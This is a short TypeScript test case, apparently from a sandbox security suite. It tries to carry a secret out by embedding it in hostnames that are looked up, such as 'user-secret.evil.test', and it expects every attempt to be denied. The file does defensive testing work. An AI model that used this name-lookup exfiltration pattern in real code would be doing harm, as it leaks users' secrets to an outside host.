import type { FetchAttack } from './fetch-attack.ts';

export default {
  name: 'data in names that are looked up',
  tries: 'To carry data out in the questions to a name server.',
  source: `const data = 'user-secret';
const ends = [];
for (const name of [data + '.evil.test', data + '.good.test', data + '.test']) ends.push(await ask(at(name)));
api.state.set('ends', ends);`,
  arrives: [],
  expect: { returned: { ends: ['http_fetch_denied', 'http_fetch_denied', 'http_fetch_denied'] } },
} satisfies FetchAttack;
